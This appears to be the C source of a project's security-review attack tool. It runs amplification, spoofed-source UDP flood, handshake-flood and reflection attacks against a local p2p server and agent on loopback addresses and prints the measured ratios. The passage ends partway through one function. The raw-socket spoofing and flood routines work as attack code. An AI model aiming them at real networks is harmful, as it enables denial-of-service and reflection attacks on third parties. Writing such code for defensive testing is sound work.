/* SPDX-License-Identifier: ISC */
/*
 * p2pattack: the attacks of the security review (issue 15), each against a
 * local p2p-server, each printing what it measured. tests/attack/attack.sh
 * runs them all (make attack); tests/integration/amplify.sh checks the
 * amplification table in make check.
 *
 *   p2pattack amp HOST:PORT SECRET-FILE
 *       every message the server answers before it knows who sent it, and
 *       its reply: "ROW request N reply N ratio R" (exit 1 if a p2pd
 *       message's reply is larger than the request)
 *   p2pattack spoofamp HOST:PORT SECRET-FILE N
 *       a token holder registers, then sends N authenticated requests
 *       whose source is forged to a victim socket of its own: the bytes the
 *       victim gets for the bytes sent (root: raw socket)
 *   p2pattack regrate HOST:PORT SECRET-FILE N WINDOW [SOURCE-IP]
 *       N registrations of distinct peers, WINDOW at once: per second,
 *       the hellos and REG_INITs that had to be sent again, and the time
 *       each registration took (from SOURCE-IP, a loopback address the
 *       server has not seen yet, if given)
 *   p2pattack sink HOST:PORT SECONDS
 *       a UDP socket at HOST:PORT (port 0: any; its port is printed) that
 *       reads nothing for SECONDS: a flood's target that does no work,
 *       to tell what the flood costs the machine from what the server does
 *   p2pattack helloflood HOST:PORT RATE SECONDS
 *       REG_HELLOs from random forged 127/8 sources at RATE a second (root)
 *   p2pattack hsflood HOST:PORT RATE SECONDS [IDENTITY-FILE]
 *       HS_INIT-shaped garbage (the right type, version and sizes, random
 *       keys, indices and MACs) at an agent's UDP port, RATE a second;
 *       with the agent's identity file (only its public half is read),
 *       real initiations with a valid mac1 from made-up identities,
 *       replayed from random forged 127.1/16 sources (root)
 *   p2pattack probeflood HOST:PORT SECRET-FILE PEER COUNT
 *       a peer that forges its source: registers as mallory (group
 *       "attack"), makes a session with PEER, then sends COUNT
 *       PATH_CHALLENGEs in it forged from a victim on 127.0.9.1 and COUNT
 *       from a victim on its own IP, then 100 plain DATA packets forged
 *       from 127.0.9.2: the bytes each victim gets within 2 s (root)
 *   p2pattack stunflood HOST:PORT N HOSTS
 *       N Binding requests from each of HOSTS addresses 127.0.5.x: replies
 *   p2pattack httphold HOST:PORT N
 *       N connections, each announcing a 256 KiB body without the admin key
 *       and sending part of it: how many the server still holds after 2 s
 *       ($P2PATTACK_SRCS=K: from K addresses 127.0.6.1 ..., not one;
 *       $P2PATTACK_IDLE: each connection sends nothing and holds its
 *       descriptor until the server's timeout, as a slow client does)
 *   p2pattack httppipe HOST:PORT SECONDS
 *       requests pipelined on one connection that never reads: bytes the
 *       server took before it stopped
 */
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/time.h>

#include <netinet/in.h>
#include <arpa/inet.h>

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <sodium.h>

#include "addr.h"
#include "hs.h"
#include "rawudp.h"
#include "regclient.h"
#include "secret.h"
#include "token.h"

static struct sockaddr_in srv;
static uint8_t secret[SECRET_MAX];
static size_t secretlen;

/*
 * The floods' own randomness: xorshift64* seeded once, so that the attack
 * tool, which shares the machine with what it measures, does not spend a
 * getrandom() call per packet.
 */
static uint64_t fr_state;

static uint64_t
fast_rand(void)
{
	if (fr_state == 0)
		randombytes_buf(&fr_state, sizeof(fr_state));
	fr_state ^= fr_state >> 12;
	fr_state ^= fr_state << 25;
	fr_state ^= fr_state >> 27;
	return fr_state * 0x2545F4914F6CDD1DULL;
}

static void
fast_buf(uint8_t *p, size_t n)
{
	uint64_t r;
	size_t k;

	while (n > 0) {
		r = fast_rand();
		k = n < sizeof(r) ? n : sizeof(r);
		memcpy(p, &r, k);
		p += k;
		n -= k;
	}
}

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int
udp_to_server(const char *bind_ip)
{
	struct sockaddr_in me;
	int fd;

	if ((fd = socket(AF_INET, SOCK_DGRAM, 0)) == -1)
		return -1;
	if (bind_ip != NULL) {
		memset(&me, 0, sizeof(me));
		me.sin_family = AF_INET;
		inet_pton(AF_INET, bind_ip, &me.sin_addr);
		if (bind(fd, (struct sockaddr *)&me, sizeof(me)) == -1) {
			close(fd);
			return -1;
		}
	}
	if (connect(fd, (struct sockaddr *)&srv, sizeof(srv)) == -1) {
		close(fd);
		return -1;
	}
	return fd;
}

static void
load_secret(const char *path)
{
	char err[256];

	if (secret_load(path, secret, &secretlen, err, sizeof(err)) == -1) {
		fprintf(stderr, "p2pattack: %s\n", err);
		exit(2);
	}
}

static void
mint(char *out, size_t cap, const char *peer)
{
	struct token t;

	memset(&t, 0, sizeof(t));
	t.version = TOKEN_VERSION;
	t.issued_at = (uint64_t)time(NULL);
	t.expires_at = t.issued_at + 3600;
	snprintf(t.peer_id, sizeof(t.peer_id), "%s", peer);
	snprintf(t.groups[0], sizeof(t.groups[0]), "attack");
	t.ngroups = 1;
	if (token_mint(&t, secret, secretlen, out, cap) < 0) {
		fprintf(stderr, "p2pattack: cannot mint\n");
		exit(2);
	}
}

/* Bytes of every reply within ms after sending pkt from a fresh socket. */
static size_t
replies(int fd, int ms, size_t *count)
{
	uint8_t b[4096];
	size_t total = 0;
	ssize_t n;

	*count = 0;
	while ((n = rc_recv(fd, 0, b, sizeof(b), ms)) > 0) {
		total += (size_t)n;
		(*count)++;
	}
	return total;
}

static int amp_bad;

static void
amp_row(const char *name, size_t req, size_t rep, int p2pd)
{
	double r = req > 0 ? (double)rep / (double)req : 0;

	printf("%-40s request %5zu reply %5zu ratio %.2f%s\n", name, req, rep,
	    r, p2pd ? "" : "  (standard STUN: rate-capped)");
	if (p2pd && rep > req)
		amp_bad = 1;
}

static void
amp_send(const char *name, const uint8_t *p, size_t n, int p2pd)
{
	size_t c, rep;
	int fd = udp_to_server(NULL);

	if (fd == -1 || rc_send(fd, 0, p, n) == -1) {
		perror("p2pattack: send");
		exit(2);
	}
	rep = replies(fd, 300, &c);
	amp_row(name, n, rep, p2pd);
	close(fd);
}

static int
cmd_amp(int argc, char **argv)
{
	uint8_t b[512], id_pk[32], id_sk[64];
	struct rc_hs h;
	char tok[TOKEN_MAX_LEN + 1];
	size_t c, rep;
	int fd, k;

	if (argc != 1)
		return 2;
	load_secret(argv[0]);
	crypto_sign_keypair(id_pk, id_sk);
	if ((fd = udp_to_server(NULL)) == -1 || rc_hello(fd, 0, &h) == -1) {
		fprintf(stderr, "p2pattack: no REG_CHALLENGE\n");
		return 1;
	}
	amp_row("REG_HELLO", h.hello_len, h.challenge_len, 1);
	mint(tok, sizeof(tok), "amp-probe");
	if (rc_init_build(&h, tok, id_pk, id_sk, 1, 0) == -1)
		return 1;
	h.init[WIRE_HDR_LEN + WIRE_KEY_ID_LEN] ^= 1;	/* a stale cookie */
	rc_send(fd, 0, h.init, h.init_len);
	rep = replies(fd, 300, &c);
	amp_row("REG_INIT, stale cookie", h.init_len, rep, 1);
	h.init[WIRE_HDR_LEN + WIRE_KEY_ID_LEN] ^= 1;
	h.init[WIRE_HDR_LEN] ^= 0xff;			/* no such key */
	rc_send(fd, 0, h.init, h.init_len);
	rep = replies(fd, 300, &c);
	amp_row("REG_INIT, unknown server key", h.init_len, rep, 1);
	h.init[WIRE_HDR_LEN] ^= 0xff;
	h.init[h.init_len - 2] ^= 1;			/* forged */
	rc_send(fd, 0, h.init, h.init_len);
	rep = replies(fd, 300, &c);
	amp_row("REG_INIT, forged ciphertext", h.init_len, rep, 1);
	h.init[h.init_len - 2] ^= 1;
	rc_send(fd, 0, h.init, h.init_len);
	rep = replies(fd, 300, &c);
	amp_row("REG_INIT (address proven by the cookie)", h.init_len, rep, 1);
	rc_send(fd, 0, h.init, h.init_len);
	rep = replies(fd, 300, &c);
	amp_row("REG_INIT again (a resend or replay)", h.init_len, rep, 1);
	close(fd);

	memset(b, 0, sizeof(b));
	b[0] = WIRE_CTRL;
	b[1] = WIRE_VERSION;
	b[4] = 0xde;
	b[7] = 0x01;
	amp_send("CTRL, unknown reg_id", b, 32, 1);
	b[0] = WIRE_RELAY;
	amp_send("RELAY, unknown reg_id", b, 36, 1);
	b[0] = WIRE_CTRL;
	b[1] = 1;
	amp_send("another wire version (3 bytes)", b, 3, 1);
	b[1] = WIRE_VERSION;
	b[0] = 0x17;
	amp_send("junk", b, 64, 1);
	/* STUN Binding request: type 0x0001, length 0, cookie, txid. */
	memset(b, 0, 20);
	b[1] = 0x01;
	b[4] = 0x21; b[5] = 0x12; b[6] = 0xa4; b[7] = 0x42;
	randombytes_buf(b + 8, 12);
	amp_send("STUN Binding request", b, 20, 0);
	/* ... with an unknown comprehension-required attribute: 420 */
	b[3] = 8;
	b[20] = 0x00; b[21] = 0x7f; b[22] = 0; b[23] = 4;
	memset(b + 24, 0, 4);
	amp_send("STUN, unknown attribute (420)", b, 28, 0);
	k = amp_bad;
	printf("amp: %s\n", k ? "a p2pd reply is larger than its request" :
	    "no p2pd reply is larger than its request");
	return k;
}

/* Register peer over fd; the channel in ch. 0 or -1. */
static int
register_peer(int fd, const char *peer, struct chan *ch, uint32_t *reg_id)
{
	uint8_t id_pk[32], id_sk[64], b[2048];
	char tok[TOKEN_MAX_LEN + 1];
	P2p__Srv__ServerMsg *r;
	struct rc_hs h;
	ssize_t n;
	int ok;

	crypto_sign_keypair(id_pk, id_sk);
	mint(tok, sizeof(tok), peer);
	if (rc_hello(fd, 0, &h) == -1 || rc_init_build(&h, tok, id_pk, id_sk,
	    1, 0) == -1 || rc_send(fd, 0, h.init, h.init_len) == -1 ||
	    (n = rc_recv(fd, 0, b, sizeof(b), 2000)) < 0 ||
	    (r = rc_accept_open(&h, b, (size_t)n, ch)) == NULL)
		return -1;
	ok = r->body_case == P2P__SRV__SERVER_MSG__BODY_REGISTERED;
	if (ok)
		*reg_id = r->registered->reg_id;
	p2p__srv__server_msg__free_unpacked(r, NULL);
	return ok ? 0 : -1;
}

static int
cmd_spoofamp(int argc, char **argv)
{
	P2p__Srv__ServerMsg m = P2P__SRV__SERVER_MSG__INIT;
	P2p__Srv__GroupList gl = P2P__SRV__GROUP_LIST__INIT;
	struct sockaddr_in victim;
	socklen_t vl = sizeof(victim);
	struct chan ch;
	uint8_t out[2048], b[4096];
	size_t sent = 0, got = 0, npk = 0;
	uint32_t reg_id;
	ssize_t n;
	long i, count;
	int fd, vfd, raw;

	if (argc != 2)
		return 2;
	load_secret(argv[0]);
	count = atol(argv[1]);
	if ((raw = rawudp_open()) == -1) {
		fprintf(stderr, "p2pattack: no raw socket (needs root)\n");
		return 77;
	}
	if ((fd = udp_to_server(NULL)) == -1 ||
	    register_peer(fd, "spoofer", &ch, &reg_id) == -1) {
		fprintf(stderr, "p2pattack: cannot register\n");
		return 1;
	}
	memset(&victim, 0, sizeof(victim));
	victim.sin_family = AF_INET;
	victim.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if ((vfd = socket(AF_INET, SOCK_DGRAM, 0)) == -1 ||
	    bind(vfd, (struct sockaddr *)&victim, sizeof(victim)) == -1 ||
	    getsockname(vfd, (struct sockaddr *)&victim, &vl) == -1)
		return 1;
	m.body_case = P2P__SRV__SERVER_MSG__BODY_GROUP_LIST;
	m.group_list = &gl;
	for (i = 0; i < count; i++) {
		m.id = (uint32_t)(i + 2);
		if ((n = rc_seal(&ch, &m, out, sizeof(out))) < 0 ||
		    rawudp_send(raw, &victim, &srv, out, (size_t)n) == -1) {
			perror("p2pattack: spoofed send");
			return 1;
		}
		sent += (size_t)n;
		if (i % 16 == 15)
			usleep(2000);
	}
	while ((n = rc_recv(vfd, 0, b, sizeof(b), 500)) > 0) {
		got += (size_t)n;
		npk++;
	}
	printf("spoofamp: %ld authenticated requests (%zu bytes) forged from "
	    "the victim; the victim got %zu packets, %zu bytes: ratio %.2f\n",
	    count, sent, npk, got, sent ? (double)got / (double)sent : 0);
	return 0;
}

/* One registration in flight on its own socket (regrate). */
struct rr {
	int		 fd;
	int		 phase;		/* 0 idle, 1 HELLO sent, 2 INIT sent */
	double		 sent;
	double		 began;		/* the first HELLO */
	struct rc_hs	 h;
	uint8_t		 id_pk[32], id_sk[64];
	struct chan	 ch;
};

static void
rr_hello(struct rr *r)
{
	uint8_t b[WIRE_HELLO_LEN];

	memset(&r->h, 0, sizeof(r->h));
	crypto_box_keypair(r->h.epk, r->h.esk);
	if (wire_hello_build(b, sizeof(b), r->h.epk) > 0)
		(void)rc_send(r->fd, 0, b, sizeof(b));
	r->phase = 1;
	r->sent = now_s();
}

static int
dbl_cmp(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return x < y ? -1 : x > y;
}

static int
cmd_regrate(int argc, char **argv)
{
	struct rr *rs;
	struct pollfd *pfd;
	char peer[64], tok[TOKEN_MAX_LEN + 1];
	uint8_t b[2048];
	P2p__Srv__ServerMsg *m;
	long n, w, started = 0, done = 0, fails = 0, seq = 0, i;
	long rs_hello = 0, rs_init = 0;
	struct rusage ru;
	const char *src;
	double t0, t, *lat;
	ssize_t k;

	if (argc != 3 && argc != 4)
		return 2;
	load_secret(argv[0]);
	n = atol(argv[1]);
	w = atol(argv[2]);
	src = argc == 4 ? argv[3] : NULL;
	if (n < 1 || w < 1 || (rs = calloc((size_t)w, sizeof(*rs))) == NULL ||
	    (pfd = calloc((size_t)w, sizeof(*pfd))) == NULL ||
	    (lat = calloc((size_t)n, sizeof(*lat))) == NULL)
		return 2;
	t0 = now_s();
	for (i = 0; i < w; i++) {
		if ((rs[i].fd = udp_to_server(src)) == -1) {
			perror("p2pattack: regrate socket");
			return 1;
		}
		pfd[i].fd = rs[i].fd;
		pfd[i].events = POLLIN;
		if (started < n) {
			crypto_sign_keypair(rs[i].id_pk, rs[i].id_sk);
			rr_hello(&rs[i]);
			rs[i].began = rs[i].sent;
			started++;
		}
	}
	while (done + fails < n) {
		if (poll(pfd, (nfds_t)w, 100) < 0)
			break;
		t = now_s();
		for (i = 0; i < w; i++) {
			struct rr *r = &rs[i];

			if (r->phase == 0)
				continue;
			if (!(pfd[i].revents & POLLIN)) {
				if (t - r->sent > 1.0) {	/* lost: again */
					if (r->phase == 1) {
						rr_hello(r);
						rs_hello++;
					} else {
						rs_init++;
						(void)rc_send(r->fd, 0, r->h.init,
						    r->h.init_len);
						r->sent = t;
					}
				}
				continue;
			}
			if ((k = recv(r->fd, b, sizeof(b), 0)) <= 0)
				continue;
			if (r->phase == 1 && b[0] == WIRE_REG_CHALLENGE &&
			    wire_challenge_parse(b, (size_t)k, r->h.cookie,
			    r->h.keys, &r->h.nkeys) == 0) {
				snprintf(peer, sizeof(peer), "rr%ld-%ld",
				    (long)getpid(), seq++);
				mint(tok, sizeof(tok), peer);
				if (rc_init_build(&r->h, tok, r->id_pk,
				    r->id_sk, 1, 0) == -1)
					return 1;
				(void)rc_send(r->fd, 0, r->h.init,
				    r->h.init_len);
				r->phase = 2;
				r->sent = t;
			} else if (r->phase == 2 && b[0] == WIRE_REG_ACCEPT) {
				m = rc_accept_open(&r->h, b, (size_t)k, &r->ch);
				if (m != NULL && m->body_case ==
				    P2P__SRV__SERVER_MSG__BODY_REGISTERED)
					lat[done++] = t - r->began;
				else
					fails++;
				if (m != NULL)
					p2p__srv__server_msg__free_unpacked(m,
					    NULL);
				chan_wipe(&r->ch);
				r->phase = 0;
				if (started < n) {
					crypto_sign_keypair(r->id_pk, r->id_sk);
					rr_hello(r);
					r->began = r->sent;
					started++;
				}
			}
		}
		if (now_s() - t0 > 120)
			break;
	}
	t = now_s() - t0;
	printf("regrate: %ld registrations in %.2f s: %.0f/s (%ld refused, "
	    "%ld unfinished)\n", done, t, (double)done / t, fails,
	    n - done - fails);
	getrusage(RUSAGE_SELF, &ru);
	printf("regrate: its own CPU %.0f%% of a core, %ld times preempted\n",
	    100 * ((double)ru.ru_utime.tv_sec + (double)ru.ru_stime.tv_sec +
	    ((double)ru.ru_utime.tv_usec + (double)ru.ru_stime.tv_usec) / 1e6) /
	    t, ru.ru_nivcsw);
	/* Where the time went: lost packets cost a 1 s wait each. */
	qsort(lat, (size_t)done, sizeof(*lat), dbl_cmp);
	printf("regrate: %ld HELLOs and %ld REG_INITs sent again after 1 s "
	    "without an answer; time to register: median %.0f ms, p90 %.0f "
	    "ms, max %.0f ms\n", rs_hello, rs_init,
	    done ? 1000 * lat[done / 2] : 0, done ? 1000 * lat[done * 9 / 10] :
	    0, done ? 1000 * lat[done - 1] : 0);
	for (i = 0; i < w; i++)
		close(rs[i].fd);
	free(lat);
	free(pfd);
	free(rs);
	return 0;
}

static int
cmd_sink(int argc, char **argv)
{
	struct sockaddr_in me = srv;
	socklen_t ml = sizeof(me);
	int fd;

	if (argc != 1)
		return 2;
	if ((fd = socket(AF_INET, SOCK_DGRAM, 0)) == -1 ||
	    bind(fd, (struct sockaddr *)&me, sizeof(me)) == -1 ||
	    getsockname(fd, (struct sockaddr *)&me, &ml) == -1) {
		perror("p2pattack: sink");
		return 1;
	}
	printf("%u\n", ntohs(me.sin_port));
	fflush(stdout);
	sleep((unsigned)atoi(argv[0]));
	close(fd);
	return 0;
}

static int
cmd_helloflood(int argc, char **argv)
{
	struct sockaddr_in src;
	uint8_t pkt[WIRE_HELLO_LEN], e[32];
	double rate, secs, t0, t;
	long sent = 0, due;
	int raw;

	if (argc != 2)
		return 2;
	rate = atof(argv[0]);
	secs = atof(argv[1]);
	if ((raw = rawudp_open()) == -1) {
		fprintf(stderr, "p2pattack: no raw socket (needs root)\n");
		return 77;
	}
	memset(&src, 0, sizeof(src));
	src.sin_family = AF_INET;
	t0 = now_s();
	while ((t = now_s() - t0) < secs) {
		due = (long)(t * rate);
		while (sent < due) {
			fast_buf(e, sizeof(e));
			(void)wire_hello_build(pkt, sizeof(pkt), e);
			/* 127.1.0.0/16: loopback, and no one listens there */
			src.sin_addr.s_addr = htonl(0x7f010000U |
			    (uint32_t)(fast_rand() & 0xffff));
			src.sin_port = htons((uint16_t)(1024 +
			    fast_rand() % 60000));
			if (rawudp_send(raw, &src, &srv, pkt, sizeof(pkt)) == 0)
				sent++;
		}
		usleep(1000);
	}
	printf("helloflood: %ld spoofed REG_HELLOs in %.1f s (%.0f/s, %.0f "
	    "kB/s)\n", sent, secs, (double)sent / secs,
	    (double)sent * WIRE_HELLO_LEN / secs / 1000);
	return 0;
}

/*
 * With the responder's identity file, real initiations: HS_INITs from
 * HSFLOOD_IDS made-up identities, valid mac1 and all, each costing a
 * responder that works on it two Diffie-Hellmans; replayed round robin
 * from random forged 127.1/16 sources (root). Only the public half of the
 * file is read: what any introduced peer knows.
 */
#define HSFLOOD_IDS	64
static size_t
hsflood_make(const char *idfile, uint8_t pkts[HSFLOOD_IDS][HS_INIT_MAX],
    size_t *lens)
{
	struct hs_identity id;
	struct hs hs;
	uint8_t file[64], pk[32], sk[64];
	char name[16];
	size_t i;
	FILE *f;

	if ((f = fopen(idfile, "rb")) == NULL || fread(file, 1, sizeof(file),
	    f) != sizeof(file)) {
		fprintf(stderr, "p2pattack: %s: cannot read 64 bytes\n", idfile);
		if (f != NULL)
			fclose(f);
		return 0;
	}
	fclose(f);
	for (i = 0; i < HSFLOOD_IDS; i++) {
		crypto_sign_keypair(pk, sk);
		memset(&hs, 0, sizeof(hs));
		snprintf(name, sizeof(name), "flood%zu", i);
		if (hs_identity_from_ed25519(&id, sk) == -1 ||
		    hs_initiate(&hs, &id, file + 32, AEAD_CHACHAPOLY,
		    1 + randombytes_random() % 0x7fffffff, name,
		    (uint64_t)time(NULL) * 1000000000ULL + i, pkts[i],
		    HS_INIT_MAX, &lens[i]) == -1)
			return 0;
		hs_wipe(&hs);
	}
	return HSFLOOD_IDS;
}

static int
cmd_hsflood(int argc, char **argv)
{
	static uint8_t real[HSFLOOD_IDS][HS_INIT_MAX];
	size_t rlen[HSFLOOD_IDS], nreal = 0;
	struct sockaddr_in src;
	uint8_t pkt[256];
	double rate, secs, t0, t;
	long sent = 0, due;
	size_t len;
	int fd = -1, raw = -1;

	if (argc != 2 && argc != 3)
		return 2;
	rate = atof(argv[0]);
	secs = atof(argv[1]);
	if (argc == 3) {
		if ((nreal = hsflood_make(argv[2], real, rlen)) == 0)
			return 2;
		if ((raw = rawudp_open()) == -1) {
			fprintf(stderr, "p2pattack: no raw socket (needs "
			    "root)\n");
			return 77;
		}
	} else if ((fd = udp_to_server(NULL)) == -1)
		return 2;
	memset(&src, 0, sizeof(src));
	src.sin_family = AF_INET;
	t0 = now_s();
	while ((t = now_s() - t0) < secs) {
		due = (long)(t * rate);
		while (sent < due) {
			if (nreal > 0) {
				src.sin_addr.s_addr = htonl(0x7f010000U |
				    (uint32_t)(fast_rand() & 0xffff));
				src.sin_port = htons((uint16_t)(1024 +
				    fast_rand() % 60000));
				(void)rawudp_send(raw, &src, &srv,
				    real[sent % nreal], rlen[sent % nreal]);
				sent++;
				continue;
			}
			len = 136 + fast_rand() % 70;
			fast_buf(pkt, len);
			pkt[0] = 0x53;
			pkt[1] = WIRE_VERSION;
			pkt[2] = 1;	/* ChaChaPoly */
			pkt[3] = 0;
			(void)send(fd, pkt, len, 0);
			sent++;
		}
		usleep(1000);
	}
	printf("hsflood: %ld %s HS_INITs in %.1f s (%.0f/s)\n", sent,
	    nreal > 0 ? "replayed real (valid mac1), forged-source" :
	    "forged garbage", secs, (double)sent / secs);
	return 0;
}

/*
 * probeflood: a peer that forges its source. mallory registers (group
 * "attack"), asks the server to connect it to PEER, makes a session with
 * the real handshake from a second socket, then seals COUNT PATH_CHALLENGEs
 * in the session and sends them with forged sources: to a victim socket on
 * 127.0.9.1 (an address that is not mallory's), and to a victim socket on
 * mallory's own IP (another port). What each victim gets back is the
 * amplification; a guarded agent answers the first none and the second at
 * its per-address rate.
 */
struct mallory {
	int		 fd;		/* to the server */
	struct chan	 ctl;
	uint32_t	 next_id;
	uint8_t		 id_pk[32], id_sk[64];
};

static P2p__Srv__ServerMsg *
mal_recv(struct mallory *m, int ms)
{
	P2p__Srv__ServerMsg *r, ack = P2P__SRV__SERVER_MSG__INIT;
	uint8_t b[2048], pt[2048], out[2100];
	ssize_t n;

	while ((n = rc_recv(m->fd, 0, b, sizeof(b), ms)) > 0) {
		if (b[0] != WIRE_CTRL || (n = chan_open(&m->ctl, WIRE_CTRL, b,
		    (size_t)n, pt, sizeof(pt), NULL)) < 0 ||
		    (r = p2p__srv__server_msg__unpack(NULL, (size_t)n, pt)) ==
		    NULL)
			continue;
		if (r->push_seq != 0) {
			ack.ack_push = r->push_seq;
			if ((n = rc_seal(&m->ctl, &ack, out, sizeof(out))) > 0)
				(void)rc_send(m->fd, 0, out, (size_t)n);
		}
		return r;
	}
	return NULL;
}

/* Registered and introduced to peer: its Introduce, or NULL. */
static P2p__Srv__ServerMsg *
mal_introduce(struct mallory *m, const char *peer)
{
	P2p__Srv__ServerMsg q = P2P__SRV__SERVER_MSG__INIT, *r;
	P2p__Srv__ConnectRequest cr = P2P__SRV__CONNECT_REQUEST__INIT;
	char tok[TOKEN_MAX_LEN + 1];
	uint8_t b[2048];
	struct rc_hs h;
	ssize_t n;
	int i;

	crypto_sign_keypair(m->id_pk, m->id_sk);
	mint(tok, sizeof(tok), "mallory");
	if ((m->fd = udp_to_server("127.0.0.1")) == -1 ||
	    rc_hello(m->fd, 0, &h) == -1 || rc_init_build(&h, tok, m->id_pk,
	    m->id_sk, 1, 0) == -1 || rc_send(m->fd, 0, h.init,
	    h.init_len) == -1 || (n = rc_recv(m->fd, 0, b, sizeof(b),
	    2000)) < 0 || (r = rc_accept_open(&h, b, (size_t)n,
	    &m->ctl)) == NULL)
		return NULL;
	p2p__srv__server_msg__free_unpacked(r, NULL);
	cr.peer_id = (char *)peer;
	q.id = 2;
	q.body_case = P2P__SRV__SERVER_MSG__BODY_CONNECT;
	q.connect = &cr;
	if ((n = rc_seal(&m->ctl, &q, b, sizeof(b))) < 0 ||
	    rc_send(m->fd, 0, b, (size_t)n) == -1)
		return NULL;
	for (i = 0; i < 10 && (r = mal_recv(m, 2000)) != NULL; i++) {
		if (r->body_case == P2P__SRV__SERVER_MSG__BODY_INTRODUCE &&
		    r->introduce->identity_key.len == 32 &&
		    r->introduce->public_addr != NULL)
			return r;
		p2p__srv__server_msg__free_unpacked(r, NULL);
	}
	return NULL;
}

/* The session with the introduced peer, from socket sfd: 0 or -1. */
static int
mal_session(struct mallory *m, const P2p__Srv__Introduce *in, int sfd,
    struct sockaddr_in *peer, struct chan *ch)
{
	struct sockaddr_storage ss;
	socklen_t sl;
	struct hs_identity id;
	struct hs_result res;
	struct hs hs;
	uint8_t pkt[512];
	size_t len;
	ssize_t n;
	int i, rv;

	memset(&hs, 0, sizeof(hs));
	if (addr_from_pb(in->public_addr, &ss, &sl) == -1 ||
	    ss.ss_family != AF_INET)
		return -1;
	memcpy(peer, &ss, sizeof(*peer));
	if (hs_identity_from_ed25519(&id, m->id_sk) == -1)
		return -1;
	for (i = 0; i < 5; i++) {
		if (hs_initiate(&hs, &id, in->identity_key.data,
		    AEAD_CHACHAPOLY, 0x4d41u + (uint32_t)i, "mallory",
		    (uint64_t)time(NULL) * 1000000000ULL + (uint64_t)i, pkt,
		    sizeof(pkt), &len) == -1)
			return -1;
		(void)sendto(sfd, pkt, len, 0, (struct sockaddr *)peer,
		    sizeof(*peer));
		while ((n = rc_recv(sfd, 0, pkt, sizeof(pkt), 1000)) > 0)
			if (pkt[0] == HS_TYPE_RESP && hs_finish(&hs, pkt,
			    (size_t)n, &res) == 0) {
				rv = chan_init(ch, res.cipher, res.tx, res.rx,
				    res.remote_index);
				sodium_memzero(&res, sizeof(res));
				hs_identity_wipe(&id);
				return rv;
			}
	}
	hs_identity_wipe(&id);
	return -1;
}

/* A victim socket on ip: bound, its address in v. */
static int
victim_open(const char *ip, struct sockaddr_in *v)
{
	socklen_t vl = sizeof(*v);
	int fd;

	memset(v, 0, sizeof(*v));
	v->sin_family = AF_INET;
	inet_pton(AF_INET, ip, &v->sin_addr);
	if ((fd = socket(AF_INET, SOCK_DGRAM, 0)) == -1 ||
	    bind(fd, (struct sockaddr *)v, sizeof(*v)) == -1 ||
	    getsockname(fd, (struct sockaddr *)v, &vl) == -1)
		return -1;
	return fd;
}

/* count packets (one frame: type, then 8 random bytes) forged from v to
 * peer; the bytes v got back within 2 s of the last. */
static size_t
probe_from(int raw, struct chan *ch, int vfd, struct sockaddr_in *v,
    struct sockaddr_in *peer, long count, size_t *sent, size_t *npk,
    uint8_t frame)
{
	uint8_t pt[9], pkt[128], b[2048];
	size_t got = 0;
	double t0;
	ssize_t n;
	long i;

	*sent = 0;
	*npk = 0;
	for (i = 0; i < count; i++) {
		pt[0] = frame;	/* 0x1a PATH_CHALLENGE, 0x01 PING */
		randombytes_buf(pt + 1, 8);
		if ((n = chan_seal(ch, WIRE_DATA, pt, frame == 0x1a ?
		    sizeof(pt) : 1, pkt,
		    sizeof(pkt))) < 0 || rawudp_send(raw, v, peer, pkt,
		    (size_t)n) == -1)
			break;
		*sent += (size_t)n;
		if (i % 16 == 15)
			usleep(1000);
	}
	t0 = now_s();
	while (now_s() - t0 < 2)
		if ((n = rc_recv(vfd, 0, b, sizeof(b), 200)) > 0) {
			got += (size_t)n;
			(*npk)++;
		}
	return got;
}

static int
cmd_probeflood(int argc, char **argv)
{
	P2p__Srv__ServerMsg *intro;
	struct mallory m;
	struct sockaddr_in peer, v1, v2, v3, me;
	struct chan ch;
	size_t s1, s2, s3, g1, g2, g3, n1, n2, n3;
	long count;
	int raw, sfd, f1, f2, f3;

	if (argc != 3)
		return 2;
	load_secret(argv[0]);
	count = atol(argv[2]);
	memset(&m, 0, sizeof(m));
	if ((raw = rawudp_open()) == -1) {
		fprintf(stderr, "p2pattack: no raw socket (needs root)\n");
		return 77;
	}
	if ((intro = mal_introduce(&m, argv[1])) == NULL) {
		fprintf(stderr, "p2pattack: no introduction to %s\n", argv[1]);
		return 1;
	}
	if ((sfd = victim_open("127.0.0.1", &me)) == -1 ||
	    mal_session(&m, intro->introduce, sfd, &peer, &ch) == -1) {
		fprintf(stderr, "p2pattack: no session with %s\n", argv[1]);
		return 1;
	}
	p2p__srv__server_msg__free_unpacked(intro, NULL);
	if ((f1 = victim_open("127.0.9.1", &v1)) == -1 ||
	    (f2 = victim_open("127.0.0.1", &v2)) == -1)
		return 1;
	g1 = probe_from(raw, &ch, f1, &v1, &peer, count, &s1, &n1, 0x1a);
	g2 = probe_from(raw, &ch, f2, &v2, &peer, count, &s2, &n2, 0x1a);
	/* Plain DATA (a PING frame) forged from a third victim: the agent
	 * must not take that address as a candidate and check it. */
	if ((f3 = victim_open("127.0.9.2", &v3)) == -1)
		return 1;
	g3 = probe_from(raw, &ch, f3, &v3, &peer, 100, &s3, &n3, 0x01);
	printf("probeflood: %ld PATH_CHALLENGEs (%zu bytes) forged from "
	    "another host: %zu answers, %zu bytes, ratio %.2f\n", count, s1,
	    n1, g1, s1 ? (double)g1 / (double)s1 : 0);
	printf("probeflood: %ld PATH_CHALLENGEs (%zu bytes) forged from the "
	    "peer's own IP, another port: %zu answers, %zu bytes, ratio %.2f\n",
	    count, s2, n2, g2, s2 ? (double)g2 / (double)s2 : 0);
	printf("probeflood: 100 DATA packets (%zu bytes) forged from another "
	    "host: %zu packets to it, %zu bytes, ratio %.2f\n", s3, n3, g3,
	    s3 ? (double)g3 / (double)s3 : 0);
	return 0;
}

static int
cmd_stunflood(int argc, char **argv)
{
	uint8_t b[64];
	char ip[32];
	long n, hosts, i, j, replies_n = 0, sent = 0;
	size_t c, bytes = 0;
	double t0;
	int *fds;

	if (argc != 2 || (n = atol(argv[0])) < 1 || (hosts = atol(argv[1])) < 1 ||
	    hosts > 254 || (fds = calloc((size_t)hosts, sizeof(int))) == NULL)
		return 2;
	for (j = 0; j < hosts; j++) {
